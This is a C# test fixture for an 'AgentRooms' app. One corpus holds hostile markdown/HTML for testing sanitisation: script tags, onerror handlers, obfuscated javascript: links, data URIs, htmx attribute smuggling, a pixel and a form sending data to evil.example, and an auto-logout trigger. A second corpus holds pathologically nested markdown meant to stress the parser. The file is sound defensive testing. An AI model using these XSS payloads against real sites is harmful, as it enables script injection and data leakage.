namespace AgentRooms.Tests.Shared;

/// <summary>Markdown and HTML that tries to run script, fetch from elsewhere or smuggle htmx attributes.</summary>
public static class HostileMarkdown
{
    public static readonly string[] Corpus =
    [
        "<script>window.__pwned = 1</script>",
        "<img src=x onerror=\"window.__pwned = 2\">",
        "<svg onload=\"window.__pwned = 3\"><circle r=5 /></svg>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "[click](javascript:window.__pwned=4)",
        "[click](JaVaScRiPt:window.__pwned=5)",
        "[click](jav&#x61;script:window.__pwned=6)",
        "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=7)",
        "[click](java\tscript:window.__pwned=8)",
        "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD05PC9zY3JpcHQ+)",
        "[vb](vbscript:msgbox(10))",
        "![pixel](https://evil.example/pixel.png?leak=secret)",
        "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[ref link][evil]\n\n[evil]: javascript:window.__pwned=11",
        "<javascript:window.__pwned=12>",
        "<https://evil.example/autolink>",
        "[htmx]{hx-get=/rooms hx-trigger=load}",
        "# Title {hx-get=\"/rooms\" hx-trigger=\"load\" onclick=\"window.__pwned=13\"}",
        "<div hx-get=\"/Account/Logout\" hx-trigger=\"load\" hx-post=\"/Account/Logout\">x</div>",
        "<a href=\"#\" onclick=\"window.__pwned=14\">a</a>",
        "<style>body{display:none}</style>",
        "<form action=\"https://evil.example/\"><input name=q><button>go</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=15>",
        "`<script>window.__pwned=16</script>`",
        "```\"><script>window.__pwned=17</script>\n<img src=x onerror=window.__pwned=18>\n```",
        "```html\n<script>window.__pwned=19</script><img src=x onerror=\"window.__pwned=20\">\n```",
        "```javascript\nconst s = \"</code></pre><img src=x onerror=window.__pwned=21>\";\n```",
        "| a | <script>window.__pwned=22</script> |\n|:-|--:|\n| <img src=x onerror=window.__pwned=23> | [x](javascript:window.__pwned=24) |",
        "- [x] <img src=x onerror=window.__pwned=25>\n- [ ] [y](javascript:window.__pwned=26)",
        "@<script>window.__pwned=27</script> @ada<img src=x onerror=window.__pwned=28> ~~<b>gone</b>~~",
        "**bold** and _italic_ and `code` and [a link](https://example.org/page)\n\n- one\n- two\n\n> quoted\n\n```\nblock <b>code</b>\n```", // ordinary markdown, last: the browser test checks it still renders
    ];
}

/// <summary>
/// Markdown nested or repeated past what a parser comfortably takes, each within a message's 4,000
/// characters: every construct Markdig nests (brackets, links, images, quotes, lists, emphasis,
/// code spans, autolinks, headings, tables of pipes), at and beyond its limits, and mixed.
/// </summary>
public static class PathologicalMarkdown
{
    private static string Repeat(string unit, int length = 4000) =>
        string.Concat(Enumerable.Repeat(unit, Math.Max(1, length / unit.Length)));

    public static readonly string[] Corpus =
    [
        Repeat("["),
        Repeat("[", 2000) + Repeat("]", 2000),
        Repeat("[a](", 4000),
        Repeat("![", 4000),
        Repeat("> "),
        Repeat(">"),
        Repeat("- "),
        Repeat("* "),
        Repeat("1. "),
        Repeat("+ ", 3998) + "x",
        string.Join("\n", Enumerable.Range(0, 60).Select(i => new string(' ', i * 2) + "- item")),
        string.Join("\n", Enumerable.Range(0, 80).Select(i => new string('>', i) + " quote")),
        Repeat("*"),
        Repeat("**a", 3999),
        Repeat("_a", 4000),
        Repeat("*a_", 3999),
        Repeat("~~a", 3999),
        Repeat("`"),
        Repeat("`a", 4000),
        Repeat("<"),
        Repeat("<a", 4000),
        Repeat("#"),
        Repeat("|"),
        Repeat("\\"),
        Repeat("&#"),
        Repeat("("),
        Repeat("> - * [", 4000),
        Repeat("- > 1. **[", 4000),
        Repeat("[![", 4000),
        Repeat("**[_`", 4000),
        string.Concat(Enumerable.Repeat("[", 799)) + "x" + string.Concat(Enumerable.Repeat("](y)", 799)),
    ];
}
